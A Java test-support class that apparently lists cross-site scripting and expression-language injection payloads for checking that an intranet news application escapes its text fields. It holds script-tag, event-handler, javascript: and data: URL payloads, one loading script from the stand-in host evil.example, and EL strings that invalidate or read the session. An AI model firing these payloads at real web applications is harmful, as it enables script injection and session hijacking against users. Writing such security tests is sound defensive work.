package org.trustintranet.it.news;

import java.util.ArrayList;
import java.util.List;

/**
 * A battery of cross-site scripting payloads for every text field of news: script tags, event
 * handlers, {@code javascript:} and {@code data:} links, SVG, {@code srcdoc}, CSS {@code url()},
 * broken and nested markup, attribute and element breakouts, and expression-language expressions
 * whose evaluated result is a number no page shows otherwise ({@link #EVALUATED}).
 */
public final class XssPayloads {
  private XssPayloads() {}

  public static final List<String> ALL =
      List.of(
          "<script>alert(101)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(102)</scr</script>ipt>",
          "<img src=x onerror=alert(103)>",
          "<img src=\"x\" onerror=\"alert(104)\"/>",
          "<body onload=alert(105)>",
          "<p onclick=\"alert(106)\">tap</p>",
          "<details open ontoggle=alert(107)>",
          "<input autofocus onfocus=alert(108)>",
          "<svg onload=alert(109)>",
          "<svg><script>alert(110)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(111)\"><text>x</text></a></svg>",
          "<math><mtext><script>alert(112)</script></mtext></math>",
          "<iframe srcdoc=\"<script>alert(113)</script>\"></iframe>",
          "<iframe src=\"javascript:alert(114)\"></iframe>",
          "<a href=\"javascript:alert(115)\">link</a>",
          "<a href=\" JaVaScRiPt:alert(116)\">spaced</a>",
          "<a href=\"jav&#x09;ascript:alert(117)\">tab</a>",
          "<a href=\"data:text/html,<script>alert(118)</script>\">data</a>",
          "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTkpPC9zY3JpcHQ+\">b64</a>",
          "<object data=\"data:text/html,alert(120)\"></object>",
          "<embed src=\"javascript:alert(121)\">",
          "<form action=\"javascript:alert(122)\"><button>go</button></form>",
          "<div style=\"background:url(javascript:alert(123))\">css</div>",
          "<div style=\"background-image: url('data:image/svg+xml,<svg onload=alert(124)>')\">",
          "<style>@import url(javascript:alert(125));</style>",
          "<p style=\"width:expression(alert(126))\">ie</p>",
          "\"><script>alert(127)</script>",
          "'><img src=x onerror=alert(128)>",
          "\" onmouseover=\"alert(129)\" x=\"",
          "</textarea><script>alert(130)</script>",
          "</title><script>alert(131)</script>",
          "]]></content><script>alert(132)</script>",
          "<b><i><u onclick=alert(133)>nested</b></i>",
          "<div><p><a href=javascript:alert(134)>unclosed",
          "<<script>alert(135);//<</script>",
          "<img src=`x` onerror=alert(136)",
          "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(137)\">",
          "<base href=\"javascript:alert(138)//\">",
          "<!--<img src=\"--><img src=x onerror=alert(139)//\">",
          "${7*1913}",
          "#{31*1033}",
          "#{1+1000000}",
          "#{request.getSession().invalidate()}",
          "${facesContext.externalContext.sessionMap}");

  /** What the expression-language payloads evaluate to: no page may show any of them. */
  public static final List<String> EVALUATED = List.of("13391", "32023", "1000001");

  /**
   * The payloads in groups joined by {@code separator}, each at most {@code max} characters long (a
   * payload longer than that alone is left out); every payload is in one group.
   */
  public static List<String> chunks(int max, String separator) {
    List<String> groups = new ArrayList<>();
    StringBuilder group = new StringBuilder();
    for (String payload : ALL) {
      if (payload.length() > max) {
        continue;
      }
      if (group.length() > 0 && group.length() + separator.length() + payload.length() > max) {
        groups.add(group.toString());
        group.setLength(0);
      }
      if (group.length() > 0) {
        group.append(separator);
      }
      group.append(payload);
    }
    if (group.length() > 0) {
      groups.add(group.toString());
    }
    return groups;
  }
}
